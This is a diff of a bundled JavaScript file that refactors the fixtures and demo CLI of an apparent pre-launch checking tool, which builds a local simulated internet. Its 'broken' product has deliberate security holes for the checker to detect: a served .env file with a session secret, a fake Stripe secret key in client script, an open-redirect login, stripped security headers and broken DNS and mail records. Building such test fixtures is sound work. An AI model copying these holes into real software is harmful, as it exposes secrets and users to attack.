+var DAY2 = 864e5;
+function registry(product, daysLeft) {
+  const known = registration(daysLeft);
+  return {
+    "data.iana.org": site(() => json({ services: [[["example"], ["https://rdap.nic.example/"]]] })),
+    "rdap.org": site(({ pathname }) => moved(`https://rdap.nic.example${pathname}`, 302)),
+    "rdap.nic.example": site(
+      (url) => url.pathname === `/domain/${product}` ? json(known) : { status: 404, body: "{}" }
+    )
+  };
+}
+var json = (data) => ({
+  headers: { "content-type": "application/rdap+json" },
+  body: JSON.stringify(data)
+});
+function registration(daysLeft) {
+  const expires = new Date(Date.now() + daysLeft * DAY2 + DAY2 / 2).toISOString();
+  return {
+    objectClassName: "domain",
+    status: ["active"],
+    events: [{ eventAction: "expiration", eventDate: expires }],
+    entities: [
+      {
+        roles: ["registrar"],
+        vcardArray: [
+          "vcard",
+          [
+            ["version", {}, "text", "4.0"],
+            ["fn", {}, "text", "Sandbox Registrar"]
+          ]
+        ]
+      }
+    ]
+  };
+}
 
 // src/sandbox/repository.ts
 import { randomBytes } from "node:crypto";
@@ -20476,7 +20615,7 @@ var ADDRESS = {
   ns1: "192.31.196.11",
   ns2: "192.31.196.12"
 };
-var DAY2 = 864e5;
+var DAY3 = 864e5;
 var KEY = "MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAxhDKQa/YTD7vpYteaAyZmREBhKqks34w9Yhi1WpoEmGLsM4FxjnDzBmykyg79ZGXnoRf4IM48yeaWExKwj+td4F58BZpsU9U1w1O/hooSfEaiaQ/iL6kCrAaHiXVmzngXrHYiLgC7db5eDiAWsgBh2GL5gBQ9tYSGPUZtPLQlwV8qNRvWY6omn8R+EmeV304Bghwp8fB2nI/JscalPBfvhJidR/J3TZ1DDwfN9KuEQ4LwQqUUGAAMhUqNFuiVZSKS5t5QLOS5hGAckzfbWm4mxOJB2wPQHMb6uorsTv9h/D32x6g9IFoVnxVmWvviEb6EJpn/fTVU5Bi29mC1/oKUQIDAQAB";
 var MAIL = {
   "@": { MX: { preference: 10, exchange: `mail.${PRODUCT}` }, TXT: "v=spf1 mx -all" },
@@ -20494,62 +20633,77 @@ function strings(text) {
   return [Array.from({ length: Math.ceil(text.length / 255) }, (_, i) => text.slice(i * 255, (i + 1) * 255))];
 }
 function fixedProduct() {
-  return {
-    zones: [
-      {
-        name: "example",
-        servers: { "a.nic.example": { address: ADDRESS.tld } },
-        records: {
-          "a.nic": { A: ADDRESS.tld },
-          "rdap.nic": { A: ADDRESS.registry },
-          "ca.nic": { A: ADDRESS.registry },
-          "ns1.dns": { A: ADDRESS.ns1 },
-          "ns2.dns": { A: ADDRESS.ns2 }
-        }
-      },
-      {
-        name: "org",
-        servers: { "a.nic.example": { address: ADDRESS.tld } },
-        records: { "data.iana": { A: ADDRESS.registry } }
-      },
-      {
-        name: "in-addr.arpa",
-        servers: { "a.nic.example": { address: ADDRESS.tld } },
-        records: { [ADDRESS.app.split(".").reverse().join(".")]: { PTR: `mail.${PRODUCT}` } }
-      },
-      {
-        name: PRODUCT,
-        servers: { "ns1.dns.example": { address: ADDRESS.ns1 }, "ns2.dns.example": { address: ADDRESS.ns2 } },
-        records: {
-          "@": {
-            A: ADDRESS.web,
-            AAAA: ADDRESS.web6,
-            ...MAIL["@"]
-          },
-          www: { CNAME: PRODUCT },
-          app: { A: ADDRESS.app },
-          staging: { A: ADDRESS.app },
-          ...MAIL.below
-        },
-        dnssec: "signed"
+  return { zones: [...parentZones(), productZone()], sites: { ...fixedSites(), ...registry(PRODUCT, 400) } };
+}
+var tldServers = () => ({ "a.nic.example": { address: ADDRESS.tld } });
+function parentZones() {
+  return [
+    {
+      name: "example",
+      servers: tldServers(),
+      records: {
+        "a.nic": { A: ADDRESS.tld },
+        "rdap.nic": { A: ADDRESS.registry },
+        "ca.nic": { A: ADDRESS.registry },
+        "ns1.dns": { A: ADDRESS.ns1 },
+        "ns2.dns": { A: ADDRESS.ns2 }
       }
-    ],
-    sites: {
-      [PRODUCT]: site((url) => {
-        if (url.pathname === "/.well-known/security.txt") return securityTxt();
-        return PAGES[url.pathname]?.() ?? page("Not found", "<h1>There is no such page</h1>", 404);
-      }),
-      [`www.${PRODUCT}`]: site((url) => moved(`https://${PRODUCT}${url.pathname}${url.search}`)),
-      [`app.${PRODUCT}`]: site(app),
-      [`staging.${PRODUCT}`]: assistantSite("hardened", page("Not found", "", 404)),
-      ...registry(400)
+    },
+    { name: "org", servers: tldServers(), records: { "data.iana": { A: ADDRESS.registry } } },
+    {
+      name: "in-addr.arpa",
+      servers: tldServers(),
+      records: { [ADDRESS.app.split(".").reverse().join(".")]: { PTR: `mail.${PRODUCT}` } }
     }
+  ];
+}
+function productZone() {
+  return {
+    name: PRODUCT,
+    servers: { "ns1.dns.example": { address: ADDRESS.ns1 }, "ns2.dns.example": { address: ADDRESS.ns2 } },
+    records: {
+      "@": {
+        A: ADDRESS.web,
+        AAAA: ADDRESS.web6,
+        ...MAIL["@"]
+      },
+      www: { CNAME: PRODUCT },
+      app: { A: ADDRESS.app },
+      staging: { A: ADDRESS.app },
+      ...MAIL.below
+    },
+    dnssec: "signed"
+  };
+}
+function fixedSites() {
+  return {
+    [PRODUCT]: site((url) => {
+      if (url.pathname === "/.well-known/security.txt") return securityTxt();
+      return PAGES[url.pathname]?.() ?? notFound();
+    }),
+    [`www.${PRODUCT}`]: site((url) => moved(`https://${PRODUCT}${url.pathname}${url.search}`)),
+    [`app.${PRODUCT}`]: site(app),
+    [`staging.${PRODUCT}`]: assistantSite("hardened", page("Not found", "", 404))
   };
 }
 function brokenProduct() {
   const plan = fixedProduct();
   const zone = plan.zones.find(({ name }) => name === PRODUCT);
   if (zone === void 0) throw new Error("the product has a zone");
+  breakZone(zone);
+  const provider = {
+    name: "amazonses.com",
+    servers: tldServers(),
+    records: { "@": { TXT: "v=spf1 ip4:199.255.192.0/22 -all" } }
+  };
+  return {
+    ...plan,
+    zones: [...plan.zones, provider],
+    deadAddresses: [ADDRESS.web6],
+    sites: { ...plan.sites, ...brokenSites(), ...registry(PRODUCT, 5) }
+  };
+}
+function breakZone(zone) {
   delete zone.dnssec;
   zone.servers["ns2.dns.example"] = { address: ADDRESS.ns2, behaviour: "lame" };
   zone.records["www"] = { CNAME: "members.old-landing-pages.example" };
@@ -20558,75 +20712,42 @@ function brokenProduct() {
   zone.records["docs"] = { A: ADDRESS.web };
   zone.records["@"] = { ...zone.records["@"], TXT: ["v=spf1 mx -all", "v=spf1 include:amazonses.com ~all"] };
   for (const name of ["_dmarc", "resend._domainkey", "send"]) delete zone.records[name];
-  const provider = {
-    name: "amazonses.com",
-    servers: { "a.nic.example": { address: ADDRESS.tld } },
-    records: { "@": { TXT: "v=spf1 ip4:199.255.192.0/22 -all" } }
+}
+function brokenSites() {
+  return {
+    [PRODUCT]: brokenHome(),
+    [`www.${PRODUCT}`]: site((url) => moved(`https://${PRODUCT}${url.pathname}${url.search}`)),
+    [`admin.${PRODUCT}`]: { answer: (url) => moved(`${url.protocol === "http:" ? "https" : "http"}://${url.host}/`) },
+    [`docs.${PRODUCT}`]: { ...site(() => page("Members", BROKEN_HOME)), certificate: "incomplete" },
+    [`staging.${PRODUCT}`]: assistantSite("obedient", page("Not found", "", 404))
   };
+}
+function brokenHome() {
   const script = `export const pay = loadStripe('${fakeKeys.stripePublic("test")}');
 const server = '${fakeKeys.stripe()}';
 `;
   return {
-    ...plan,
-    zones: [...plan.zones, provider],
-    deadAddresses: [ADDRESS.web6],
-    sites: {
-      ...plan.sites,
-      [PRODUCT]: {
-        answer: (url) => {
-          if (url.protocol === "http:") return moved(`https://${PRODUCT}/`, 302);
-          if (url.pathname === "/")
-            return withoutHeaders(page("Members", BROKEN_HOME), "strict-transport-security", "x-request-id");
-          if (url.pathname === "/assets/pay.js")
-            return { headers: { "content-type": "text/javascript" }, body: script };
-          if (url.pathname === "/.env") return { headers: { "content-type": "text/plain" }, body: LEFT_BEHIND };
-          if (url.pathname === "/pricing") return page("Application error", "<h1>Application error</h1>", 500);
-          if (url.pathname === "/signup") return page("Sign up", SIGNUP);
-          return url.pathname === "/login" ? openLogin(url) : page("Not found", "<h1>There is no such page</h1>", 404);
-        }
-      },
-      [`www.${PRODUCT}`]: site((url) => moved(`https://${PRODUCT}${url.pathname}${url.search}`)),
-      [`admin.${PRODUCT}`]: { answer: (url) => moved(`${url.protocol === "http:" ? "https" : "http"}://${url.host}/`) },
-      [`docs.${PRODUCT}`]: { ...site(() => page("Members", BROKEN_HOME)), certificate: "incomplete" },
-      [`staging.${PRODUCT}`]: assistantSite("obedient", page("Not found", "", 404)),
-      ...registry(5)
+    answer: (url) => {
+      if (url.protocol === "http:") return moved(`https://${PRODUCT}/`, 302);
+      if (url.pathname === "/")
+        return withoutHeaders(page("Members", BROKEN_HOME), "strict-transport-security", "x-request-id");
+      if (url.pathname === "/assets/pay.js") return { headers: { "content-type": "text/javascript" }, body: script };
+      if (url.pathname === "/.env") return { headers: { "content-type": "text/plain" }, body: LEFT_BEHIND };
+      if (url.pathname === "/pricing") return page("Application error", "<h1>Application error</h1>", 500);
+      if (url.pathname === "/signup") return page("Sign up", SIGNUP);
+      return url.pathname === "/login" ? openLogin(url) : notFound();
     }
   };
 }
 var LEFT_BEHIND = "# production\nSITE_NAME=Members\nSESSION_SECRET=left-on-the-server\n";
-function withoutHeaders(reply, ...names) {
-  const kept = Object.entries(reply.headers ?? {}).filter(([name]) => !names.includes(name));
-  return { ...reply, headers: Object.fromEntries(kept) };
-}
-function site(answer) {
-  return {
-    answer: (url, request) => url.protocol === "http:" ? moved(url.href.replace("http:", "https:")) : answer(url, request)
-  };
-}
-function moved(location, status = 308) {
-  return { status, headers: { location } };
-}
-var SAFE = {
-  "content-type": "text/html; charset=utf-8",
-  "strict-transport-security": "max-age=31536000",
-  "content-security-policy": "default-src 'self'; object-src 'none'; base-uri 'self'; frame-ancestors 'none'",
-  "x-content-type-options": "nosniff",
-  "x-request-id": "f2b1c7d0-5b1e-4f7e-9a55-3a0d5b1c7d0f"
-};
+var notFound = () => page("Not found", "<h1>There is no such page</h1>", 404);
 function securityTxt() {
-  const until = new Date(Date.now() + 200 * DAY2).toISOString();
+  const until = new Date(Date.now() + 200 * DAY3).toISOString();
   return {
     headers: { "content-type": "text/plain" },
     body: `Contact: mailto:security@${PRODUCT}
 Expires: ${until}
 `
-  };
-}
-function page(title, body, status = 200) {
-  return {
-    status,
-    headers: { ...SAFE },
-    body: `<!doctype html><html lang="en"><head><title>${title}</title></head><body>${body}</body></html>`
   };
 }
 var HOME = `<h1>Members</h1><p>A home for people who like the same things.</p>
@@ -20655,7 +20776,7 @@ function app(url) {
       }
     };
   }
-  return url.pathname === "/" ? page("App", '<h1>Your membership</h1><a href="/login">Log in</a>') : page("Not found", "<h1>There is no such page</h1>", 404);
+  return url.pathname === "/" ? page("App", '<h1>Your membership</h1><a href="/login">Log in</a>') : notFound();
 }
 function openLogin(url) {
   const next = url.searchParams.get("next");
@@ -20670,44 +20791,14 @@ function openLogin(url) {
     }
   };
 }
-function registry(daysLeft) {
-  const json = (data) => ({
-    headers: { "content-type": "application/rdap+json" },
-    body: JSON.stringify(data)
-  });
-  const expires = new Date(Date.now() + daysLeft * DAY2 + DAY2 / 2).toISOString();
-  return {
-    "data.iana.org": site(() => json({ services: [[["example"], ["https://rdap.nic.example/"]]] })),
-    "rdap.org": site(({ pathname }) => moved(`https://rdap.nic.example${pathname}`, 302)),
-    "rdap.nic.example": site(
-      (url) => url.pathname === `/domain/${PRODUCT}` ? json({
-        objectClassName: "domain",
-        status: ["active"],
-        events: [{ eventAction: "expiration", eventDate: expires }],
-        entities: [
-          {
-            roles: ["registrar"],
-            vcardArray: [
-              "vcard",
-              [
-                ["version", {}, "text", "4.0"],
-                ["fn", {}, "text", "Sandbox Registrar"]
-              ]
-            ]
-          }
-        ]
-      }) : { status: 404, body: "{}" }
-    )
-  };
-}
 
 // src/cli/demo.ts
 var DEMO_OPTIONS = {
-  serve: { type: "boolean", help: "leave the product running, and print the check command that reaches it" },
+  serve: { type: "boolean", help: "keep the product running, and print the check command for it" },
   fixed: { type: "boolean", help: "with --serve: the fixed product instead of the broken one" },
-  verbose: { type: "boolean", help: "also list what held" },
-  "no-color": { type: "boolean", help: "no colours" },
-  help: { type: "boolean", help: "this text" }
+  verbose: { type: "boolean", help: "also list what passed" },
+  "no-color": { type: "boolean", help: "no colors" },
+  help: { type: "boolean", help: "show this help" }
 };
 async function demo(args, process) {
   const { values } = parse(args, DEMO_OPTIONS);
@@ -20719,22 +20810,20 @@ async function demo(args, process) {
     ...values["no-color"] && { "no-color": true }
   };
   say(
-    `A little internet starts on this machine; nothing outside it is asked.
+    `A test internet starts on this machine. Nothing outside it is contacted.
 
 1. ${PRODUCT}, a week before launch
 `
   );
   const broken = await judged(await startInternet(brokenProduct()), brokenRepository(), shown, process);
   say(`
-2. ${PRODUCT}, with that put right
+2. ${PRODUCT}, after the fixes
 `);
   const fixed = await judged(await startInternet(fixedProduct()), fixedRepository(), shown, process);
   const isAsMeant = broken === "NO-GO" && fixed === "GO";
-  say(
-    isAsMeant ? `
+  say(isAsMeant ? `
 Now your own: ${again(process, "YOUR-DOMAIN")}` : `
-The demo did not go as it should: ${broken}, then ${fixed}.`
-  );
+The demo failed: ${broken}, then ${fixed}.`);
   return isAsMeant ? EXIT.go : EXIT.stop;
 }
 var again = ({ program = ["launch-gate"] }, domain) => shellLine([...program, "check", domain]);
